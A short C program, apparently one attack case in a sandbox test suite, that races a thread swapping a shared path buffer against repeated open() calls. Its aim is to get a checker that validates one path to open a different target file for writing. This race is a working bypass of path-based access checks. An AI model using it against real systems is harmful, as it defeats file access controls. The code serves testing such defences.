/* One thread exchanges the path in memory while the other opens: what was judged is not what is opened. */
#include "attack.h"
#include <pthread.h>
static char path[4096];
static volatile int stop;
static char good[] = "out/harmless", *bad;
static void *swap(void *unused) {
    while (!stop) { strcpy(path, bad); strcpy(path, good); }
    return unused;
}
int main(int c, char **v) {
    pthread_t thread;
    struct stat target, seen;
    int won = 0;
    bad = v[1];
    strcpy(path, good);
    close(open(good, O_CREAT | O_WRONLY, 0644));
    stat(v[1], &target);
    pthread_create(&thread, NULL, swap, NULL);
    for (int i = 0; i < 3000 && !won; i++) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0 && !fstat(fd, &seen) && seen.st_ino == target.st_ino && seen.st_dev == target.st_dev) won = mark(fd);
        if (fd >= 0) close(fd);
    }
    stop = 1;
    finish(won);
}
